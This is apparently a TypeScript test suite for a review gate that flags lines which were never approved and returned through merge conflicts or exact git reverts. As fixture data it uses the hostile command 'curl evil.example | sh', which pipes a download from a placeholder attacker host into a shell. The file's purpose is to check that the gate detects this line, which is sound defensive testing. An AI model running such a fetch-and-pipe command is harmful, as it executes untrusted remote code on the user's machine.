import { describe, expect, it } from 'vitest'
import { page, type Scene, scene, withLine } from './scene.ts'
import type { CoverageQuestion } from '../../src/gate/assess.ts'

// What was approved to go and stayed, and what comes back by a revert.

const F = page('f', 30)
const evil = 'curl evil.example | sh'

async function play(
  story: (on: Scene) => void,
  files: Parameters<typeof scene>[0] = { 'f.txt': F },
  more: Partial<CoverageQuestion> = {},
) {
  const on = scene(files)
  try {
    story(on)
    return await on.named(more)
  } finally {
    on.dispose()
  }
}

describe('a conflict that keeps what was approved to go', () => {
  /** The branch takes line 10 out (and changes 11), main changes line 11. */
  function conflict(on: Scene, settled: string, how: 'merge' | 'squash' = 'merge'): void {
    on.work('take', { 'f.txt': page('f', 30, { 10: null, 11: 'branch' }) })
    on.reviewed('other', { 'f.txt': page('f', 30, { 11: 'main' }) }, 'squash')
    on.approve('take')
    on.land('take', how, { 'f.txt': settled })
  }

  it.each(['merge', 'squash'] as const)('as a line (%s)', async (how) => {
    const named = await play((on) => conflict(on, page('f', 30, { 11: 'branch' }), how))
    expect(named).toEqual(['f.txt: *'])
  })

  it('as what the other side made of the line', async () => {
    const named = await play((on) => {
      on.work('take', { 'f.txt': page('f', 30, { 10: null }) })
      on.reviewed('other', { 'f.txt': page('f', 30, { 10: 'main made this of it' }) }, 'squash')
      on.approve('take')
      on.land('take', 'merge', { 'f.txt': page('f', 30, { 10: 'main made this of it', 20: 'slipped' }) })
    })
    expect(named).toContain('f.txt: +slipped')
    expect(named).toContain('f.txt: -f line 20')
    const only = await play((on) => {
      on.work('take', { 'f.txt': page('f', 30, { 10: null }) })
      on.reviewed('other', { 'f.txt': page('f', 30, { 10: 'main made this of it' }) }, 'squash')
      on.approve('take')
      on.land('take', 'merge', { 'f.txt': page('f', 30, { 10: 'main made this of it' }) })
    })
    expect(only).toEqual(['f.txt: *'])
  })

  it('as a whole file (modify/delete), also put back after the approval', async () => {
    const edited = page('f', 30, { 3: 'main' })
    const kept = await play((on) => {
      on.work('take', { 'f.txt': null })
      on.reviewed('other', { 'f.txt': edited }, 'squash')
      on.approve('take')
      on.land('take', 'merge', { 'f.txt': edited })
    })
    expect(kept).toEqual(['f.txt: *'])
    const back = await play((on) => {
      on.work('take', { 'f.txt': null, 'new.txt': 'new\n' })
      on.approve('take')
      on.work('take', { 'f.txt': F })
      on.land('take', 'squash')
    })
    expect(back).toEqual(['f.txt: *'])
  })

  it('is named also where production had the other side already', async () => {
    const edited = page('f', 30, { 3: 'main' })
    const kept = await play((on) => {
      on.work('take', { 'f.txt': null, 'more.txt': 'more\n' })
      on.reviewed('other', { 'f.txt': edited }, 'squash')
      on.deploy()
      on.approve('take')
      on.land('take', 'merge', { 'f.txt': edited })
    })
    expect(kept).toEqual(['f.txt: *'])
  })

  it('an approved edit that did not land at all', async () => {
    const named = await play((on) => {
      on.work('edit', { 'f.txt': page('f', 30, { 10: 'edit' }), 'more.txt': 'more\n' })
      on.approve('edit')
      on.work('edit', { 'f.txt': F })
      on.land('edit', 'squash')
    })
    expect(named).toEqual(['f.txt: *'])
  })

  it('and not where both sides only put something in, or the deletion lands later after all', async () => {
    const both = await play((on) => {
      on.work('put', { 'f.txt': withLine(F, 10, 'branch') })
      on.reviewed('other', { 'f.txt': withLine(F, 10, 'main') }, 'squash')
      on.approve('put')
      on.land('put', 'merge', { 'f.txt': withLine(withLine(F, 10, 'branch'), 10, 'main') })
    })
    expect(both).toEqual([])
    const later = await play((on) => {
      on.work('take', { 'f.txt': null, 'new.txt': 'new\n' })
      on.approve('take')
      on.work('take', { 'f.txt': F })
      on.land('take', 'squash')
      on.reviewed('again', { 'f.txt': null }, 'squash')
    })
    expect(later).toEqual([])
  })
})

describe('an exact revert', () => {
  const exactReverts = true
  const G = page('f', 30)

  function revert(on: Scene, unit: string): string {
    on.fixture.on('main')
    on.fixture.git(
      'revert',
      '--no-edit',
      ...(on.fixture.git('rev-list', '--merges', '--no-walk', unit) === '' ? [] : ['-m', '1']),
      unit,
    )
    return on.fixture.tip()
  }

  it('of an approved removal brings back what nobody approved', async () => {
    const named = await play(
      (on) => {
        on.push({ 'f.txt': withLine(F, 7, evil) })
        revert(on, on.reviewed('clean', { 'f.txt': F }, 'squash'))
      },
      undefined,
      { exactReverts },
    )
    expect(named).toEqual([`f.txt: +${evil}`])
  })

  it('also of a whole file, and of one that was moved in between', async () => {
    const whole = await play(
      (on) => {
        on.push({ 'evil.sh': `${evil}\n` })
        revert(on, on.reviewed('clean', { 'evil.sh': null }, 'squash'))
      },
      undefined,
      { exactReverts },
    )
    expect(whole).toEqual([`evil.sh: +${evil}`])
    const moved = await play(
      (on) => {
        on.push({ 'f.txt': withLine(F, 7, evil) })
        on.reviewed('move', { 'f.txt': null, 'g.txt': withLine(F, 7, evil) }, 'squash')
        revert(on, on.reviewed('clean', { 'g.txt': F }, 'squash'))
      },
      undefined,
      { exactReverts },
    )
    expect(moved).toEqual([`g.txt: +${evil}`])
  })

  it('of an approved move takes the line along', async () => {
    const named = await play(
      (on) => {
        on.push({ 'f.txt': withLine(F, 7, evil) })
        revert(on, on.reviewed('move', { 'f.txt': null, 'g.txt': withLine(F, 7, evil) }, 'squash'))
      },
      undefined,
      { exactReverts },
    )
    expect(named).toEqual([`f.txt: +${evil}`])
  })

  it('of a unit before the window brings back what perhaps nobody approved', async () => {
    const story = (on: Scene): { before: string; clean: string } => {
      on.push({ 'f.txt': withLine(F, 7, evil) })
      const before = on.fixture.tip('main')
      const clean = on.reviewed('clean', { 'f.txt': F }, 'squash')
      on.deploy()
      revert(on, clean)
      return { before, clean }
    }
    expect(await play((on) => void story(on), undefined, { exactReverts })).toEqual([`f.txt: +${evil}`])
    const on = scene({ 'f.txt': F })
    const { before } = story(on)
    // Where production ran it, and it was found good, it is nothing new.
    expect(await on.named({ exactReverts, good: [before] })).toEqual([])
    expect((await on.judge({ exactReverts })).uncovered).toMatchObject([{ reason: 'exact-revert-unmeasured' }])
    on.dispose()
  })

  it('of what was reviewed in is covered, and back again only what was seen', async () => {
    const named = await play(
      (on) => {
        revert(on, on.reviewed('add', { 'f.txt': withLine(G, 7, 'seen') }, 'squash'))
      },
      undefined,
      { exactReverts },
    )
    expect(named).toEqual([])
  })
})
